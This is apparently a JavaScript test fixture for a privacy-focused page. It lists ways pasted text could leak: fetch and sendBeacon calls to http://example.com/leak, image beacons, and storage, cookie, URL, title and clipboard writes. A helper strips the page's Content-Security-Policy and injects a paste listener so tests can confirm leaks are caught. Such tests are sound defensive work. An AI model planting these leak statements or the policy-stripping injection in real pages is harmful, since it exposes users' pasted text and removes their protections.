// What could be planted in a page to let something out or leave something behind, to show that the proof sees it.

/** Statements that run with the pasted text at hand. */
export const LEAKS = {
  fetch: "fetch('leak?' + encodeURIComponent(text.slice(0, 200))).catch(() => {})",
  // A page from a disk has no host of its own to send it to.
  beacon: "navigator.sendBeacon(location.protocol === 'file:' ? 'http://example.com/leak' : 'leak', text)",
  image: "new Image().src = 'leak?x'",
  elsewhere: "fetch('http://example.com/leak', { mode: 'no-cors' }).catch(() => {})",
  local: "localStorage.setItem('last', text)",
  session: "sessionStorage.setItem('last', text)",
  database: "indexedDB.open('last')",
  cookie: "document.cookie = 'last=1'",
  address: "location.hash = encodeURIComponent(text.slice(0, 2000))",
  state: "history.replaceState({ text }, '')",
  title: "document.title = text.match(/[a-z.]+@example.org/)?.[0] ?? document.title",
  console: "console.log(text)",
  clipboard: "navigator.clipboard.writeText(text)",
};

/** A page with its policy taken out and a leak put in. */
export function planted(html, statement) {
  const script = `<script>addEventListener('paste', (event) => { const text = event.clipboardData.getData('text/plain'); ${statement}; }, true);</script>`;
  const open = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "").replace("    lock();\n", "");
  const at = open.search(/<body[^>]*>/);
  if (at < 0 || open === html) throw new Error("there is no policy to take out, or no place for a leak");
  return open.replace(/<body[^>]*>/, (body) => body + script);
}

/** What is wrong, looked for until something is: a leak may take a moment to show. */
export async function shown(look) {
  for (const end = Date.now() + 3000; ; ) {
    const wrong = await look();
    if (wrong.length > 0 || Date.now() > end) return wrong;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}
